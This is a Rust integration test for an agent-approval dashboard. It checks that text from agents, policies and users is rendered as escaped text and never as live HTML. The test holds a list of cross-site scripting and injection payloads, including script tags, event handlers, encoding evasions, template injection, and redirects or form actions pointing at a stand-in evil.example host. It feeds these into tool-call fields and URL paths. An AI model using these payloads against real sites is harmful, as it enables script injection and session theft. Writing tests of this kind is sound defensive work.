//! C8: markup in whatever an agent, a policy or a person says. Every `<` of every page must belong to a tag of ours, letter by
//! letter, so that no parser of any browser can find another.

use super::*;

/// How markup gets out of where it stands: tags, attributes, comments, other encodings, other parsers' mistakes.
const PAYLOADS: [&str; 26] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></table></mtext><img src onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></dl></form><form action=https://evil.example><button>ok",
    "<!--<img src=\"--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "{{constructor.constructor('alert(1)')()}}",
];

/// Tags as our pages have them; `#` stands for hex digits.
const TAGS: [&str; 44] = [
    "<!doctype html>",
    "<html lang=\"en\">",
    "</html>",
    "<head>",
    "</head>",
    "<meta charset=\"utf-8\">",
    "<meta name=\"viewport\" content=\"width=device-width\">",
    "<title>",
    "</title>",
    "<style>",
    "</style>",
    "<body>",
    "</body>",
    "<h1>",
    "</h1>",
    "<h2>",
    "</h2>",
    "<p>",
    "</p>",
    "<pre>",
    "</pre>",
    "<dl>",
    "</dl>",
    "<dt>",
    "</dt>",
    "<dd>",
    "</dd>",
    "<code>",
    "</code>",
    "<strong>",
    "</strong>",
    "<time>",
    "</time>",
    "<a href=\"/dashboard/approvals\">",
    "<a href=\"/dashboard/approvals/#\">",
    "</a>",
    "<form method=\"post\">",
    "<form method=\"post\" action=\"/dashboard/logout\">",
    "</form>",
    "<input type=\"hidden\" name=\"token\" value=\"#\">",
    "<label>",
    "<input name=\"reason\" maxlength=\"500\" autocomplete=\"off\">",
    "</label>",
    "</button>",
];

const BUTTONS: [&str; 3] =
    ["<button>", "<button name=\"decision\" value=\"deny\">", "<button name=\"decision\" value=\"approve\">"];

/// A tag with what is hexadecimal in its attributes taken out.
fn blank(tag: &str) -> String {
    let mut parts = tag.split('"').map(str::to_owned).collect::<Vec<_>>();
    for part in parts.iter_mut().skip(1).step_by(2) {
        let (front, last) = part.rsplit_once('/').map_or(("", part.as_str()), |(front, last)| (front, last));
        if last.len() >= 12 && last.bytes().all(|b| b.is_ascii_hexdigit()) {
            *part = if front.is_empty() { "#".to_owned() } else { format!("{front}/#") };
        }
    }
    parts.join("\"")
}

#[track_caller]
fn ours_alone(page: &str) {
    for piece in page.split('<').skip(1) {
        let tag = format!("<{}", piece.split_inclusive('>').next().unwrap());
        let known = blank(&tag);
        assert!(TAGS.contains(&known.as_str()) || BUTTONS.contains(&known.as_str()), "{tag} is none of ours: {page}");
    }
}

/// Sends a raw request and gives status, head and body.
fn send(at: &str, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> (u16, String, String) {
    let mut stream = TcpStream::connect(at).unwrap();
    let mut text = format!("{method} {path} HTTP/1.1\r\nhost: {at}\r\nconnection: close\r\n");
    text.push_str(&format!("content-length: {}\r\n", body.len()));
    for (name, value) in headers {
        text.push_str(&format!("{name}: {value}\r\n"));
    }
    stream.write_all(format!("{text}\r\n{body}").as_bytes()).unwrap();
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    let answer = String::from_utf8(answer).unwrap();
    let status = answer.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap();
    let (head, body) = answer.split_once("\r\n\r\n").unwrap();
    (status, head.to_ascii_lowercase(), body.to_owned())
}

fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |text, b| text + &format!("%{b:02X}"))
}

/// A text as a page shows it.
fn plain(page: &str) -> String {
    page.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&#x27;", "'").replace("&amp;", "&")
}

#[test]
fn c8_markup_in_anything_that_is_said_is_shown_as_text() {
    let message = format!("asked {}", PAYLOADS[..4].join(" "));
    let policy = json!({"version": "1", "default_action": "ask", "policies": [
        {"name": "<b>rule</b>", "rules": [{"action": "ask", "message": message, "when": {"default": true}}]}]});
    let mut world = World::with_policy(&policy.to_string());
    world.serve(&["--approval-timeout", "20m"]);
    let at = address(&world);
    let good = format!("Bearer {}", std::fs::read_to_string(world.home().join("token")).unwrap().trim());
    let auth = [("authorization", good.as_str()), ("content-type", "application/json")];
    let url = world.run(&["dashboard", "--json"]).expect(0).json()["url"].as_str().unwrap().to_owned();
    let (status, head, _) = send(&at, "GET", url.strip_prefix(&format!("http://{at}")).unwrap(), &[], "");
    assert_eq!(status, 303);
    let cookie = head.lines().find_map(|line| line.strip_prefix("set-cookie: ")).unwrap().split(';').next().unwrap();

    // Each in every field that a call of its kind has, from an agent of its own so that no share is full.
    let mut asking = Vec::new();
    for (n, payload) in PAYLOADS.iter().enumerate() {
        for (tool, params) in [
            ("exec", json!({"command": format!("echo '{payload}'"), "cwd": payload})),
            ("write", json!({"path": format!("/tmp/{payload}"), "content": payload})),
            (
                "fetch",
                json!({"url": format!("https://x.example/{payload}"), "headers": {"x-a": payload}, "body": payload}),
            ),
            ("mcp", json!({"server": payload, "tool": payload, "arguments": {payload.to_owned(): payload}})),
            ("Custom", json!({"a": payload})),
        ] {
            let body = json!({"agent": format!("{n}{payload}"), "session": payload, "params": params}).to_string();
            let (at, good) = (at.clone(), good.clone());
            asking.push(std::thread::spawn(move || {
                let auth = [("authorization", good.as_str()), ("content-type", "application/json")];
                let (status, _, said) = send(&at, "POST", &format!("/v1/tool/{tool}"), &auth, &body);
                assert_eq!(status, 200, "{body}: {said}");
            }));
        }
    }
    let wanted = asking.len();
    let deadline = Instant::now() + Duration::from_mins(1);
    let pending: Vec<Value> = loop {
        let (_, _, body) = send(&at, "GET", "/v1/approvals", &auth, "");
        let pending: Vec<Value> = serde_json::from_str(&body).unwrap();
        if pending.len() == wanted {
            break pending;
        }
        assert!(Instant::now() < deadline, "{} of {wanted} wait", pending.len());
        std::thread::sleep(Duration::from_millis(100));
    };
    let browser = [("cookie", cookie)];
    let page = |path: &str, headers: &[(&str, &str)]| {
        let (status, head, body) = send(&at, "GET", path, headers, "");
        let kind = head.lines().find_map(|line| line.strip_prefix("content-type: ")).unwrap_or_default().to_owned();
        assert!(head.contains("x-content-type-options: nosniff"), "{path}: {head}");
        if kind.starts_with("text/html") {
            assert!(head.contains("default-src 'none'") && !head.contains("unsafe-"), "{path}: {head}");
            ours_alone(&body);
        } else {
            assert!(kind.starts_with("application/json") || body.is_empty(), "{path}: {kind}");
        }
        (status, body)
    };
    let (status, list) = page("/dashboard/approvals", &browser);
    assert_eq!((status, list.matches("<a href=").count()), (200, wanted));
    for question in &pending {
        let id = question["id"].as_str().unwrap();
        let (status, body) = page(&format!("/dashboard/approvals/{id}"), &browser);
        assert_eq!(status, 200, "{body}");
        // As text it is all there, and what cannot be seen is made visible.
        let session = question["call"]["origin"]["session"].as_str().unwrap();
        if session.is_ascii() && !session.contains('\0') {
            assert!(plain(&body).contains(session), "{session}: {body}");
        }
    }
    // In paths, where errors quote it, by all doors.
    for payload in PAYLOADS {
        let payload = percent(payload);
        for front in ["/dashboard/approvals/", "/dashboard/login/", "/dashboard/", "/v1/approvals/", "/v1/tokens/", "/"]
        {
            let (status, body) = page(&format!("{front}{payload}"), &browser);
            assert_ne!(status, 200, "{front}{payload}: {body}");
        }
        let (status, _) = page(&format!("/approvals/{payload}/1/{payload}"), &[]);
        assert_eq!(status, 404);
    }
    // What a person says comes back to the next one.
    let id = pending[0]["id"].as_str().unwrap();
    let told = json!({"approve": false, "reason": PAYLOADS[0]}).to_string();
    assert_eq!(send(&at, "POST", &format!("/v1/approvals/{id}/resolve"), &auth, &told).0, 200);
    assert_eq!(page(&format!("/dashboard/approvals/{id}"), &browser).0, 409);
    // The records themselves are data and no page.
    let (status, head, _) = send(&at, "GET", "/v1/audit/events", &auth, "");
    assert!(status == 200 && head.contains("content-type: application/json") && head.contains("nosniff"), "{head}");
    world.gateway().kill().unwrap();
    for asker in asking {
        let _ = asker.join();
    }
}
